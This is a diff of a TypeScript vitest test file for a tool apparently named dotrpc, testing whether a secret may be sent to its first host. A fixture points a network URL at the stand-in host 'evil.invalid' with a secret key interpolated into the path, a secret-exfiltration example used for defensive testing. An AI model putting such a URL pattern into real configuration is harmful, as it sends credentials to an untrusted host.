@@ -6,7 +6,7 @@ import type { AddressInfo } from "node:net"
 import { join } from "node:path"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
 import { canary, type Outcome, startAt } from "./dotrpc.ts"
-import { temporaryFolder } from "./generated.ts"
+import { temporaryFolder } from "./folders.ts"
 import { binary, processEnvironment } from "./process.ts"
 
 interface Recorder {
@@ -172,6 +172,7 @@ describe("the first host of a secret", () => {
   const remote = JSON.stringify({
     networks: { keyed: { plugin: "evm", url: "http://evil.invalid/v3/{{$secret.KEY}}" } },
   })
+  const once = `# @retry 0\n${call("keyed")}`
   const check = (
     what: string,
     isAllowed: boolean,
@@ -180,7 +181,7 @@ describe("the first host of a secret", () => {
     ...args: ReadonlyArray<string>
   ) =>
     it(what, async () => {
-      const { dotrpc } = place({ "rpc.config.json": remote, ...files }, env)
+      const { dotrpc } = place({ "rpc.config.json": remote, "a.rpc": once, ...files }, env)
       const { stderr, stdout, code } = await dotrpc("run", "a.rpc", ...args)
       if (isAllowed) expect(stdout).toContain("evil.invalid")
       else
